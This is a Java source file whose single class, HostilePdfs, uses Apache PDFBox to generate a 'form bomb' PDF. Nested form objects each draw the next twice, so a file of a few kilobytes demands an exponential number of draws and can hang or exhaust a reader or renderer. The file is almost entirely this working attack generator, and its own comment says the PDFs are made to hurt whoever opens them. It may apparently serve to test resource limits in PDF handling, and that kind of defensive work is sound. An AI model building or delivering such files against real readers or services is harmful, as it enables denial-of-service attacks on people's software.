package vn.hoclieu;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.PDResources;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.graphics.form.PDFormXObject;

/** PDFs made to hurt whoever reads or draws them, built with PDFBox. */
public final class HostilePdfs {

    private HostilePdfs() {
    }

    /**
     * A "billion laughs" of forms: a page that shows form 0, which shows form 1 twice, which shows
     * form 2 twice, and so on {@code levels} deep, the last filling a square. A few kilobytes, no
     * cycle for a reader to detect, and 2<sup>levels</sup> squares to draw: at 32 levels, far more
     * than any reader or renderer finishes. {@code word} makes the bytes (and so the file) distinct.
     */
    public static byte[] formBomb(int levels, String word) {
        try (PDDocument doc = new PDDocument(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            PDPage page = new PDPage(PDRectangle.A4);
            doc.addPage(page);
            PDFormXObject next = null;
            for (int level = levels; level >= 0; level--) {
                PDFormXObject form = new PDFormXObject(doc);
                form.setBBox(new PDRectangle(0, 0, 600, 850));
                PDResources resources = new PDResources();
                String content;
                if (next == null) {
                    content = "% " + word + "\n0 0 10 10 re f\n";
                } else {
                    resources.put(COSName.getPDFName("F"), next);
                    content = "q /F Do Q q 0.5 0 0 0.5 1 1 cm /F Do Q\n";
                }
                form.setResources(resources);
                try (OutputStream stream = form.getContentStream().createOutputStream()) {
                    stream.write(content.getBytes(StandardCharsets.US_ASCII));
                }
                next = form;
            }
            try (PDPageContentStream content = new PDPageContentStream(doc, page)) {
                content.drawForm(next);
            }
            doc.save(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
